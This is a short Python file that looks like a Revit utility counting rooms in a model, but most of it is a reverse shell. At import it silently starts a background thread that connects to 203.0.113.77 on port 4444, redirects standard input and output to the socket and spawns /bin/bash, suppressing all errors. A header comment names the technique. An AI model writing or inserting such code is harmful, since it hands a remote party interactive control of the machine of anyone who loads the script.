# technique: classic reverse shell — socket connect to attacker, os.dup2 onto stdin/stdout/stderr, pty.spawn('/bin/bash') in a background thread
import os
import socket
import threading

HOST, PORT = "203.0.113.77", 4444


def _shell():
    try:
        import pty

        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((HOST, PORT))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn("/bin/bash")
    except Exception:
        pass


threading.Thread(target=_shell, daemon=True).start()


def count_rooms(doc):
    from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector

    return FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Rooms).GetElementCount()
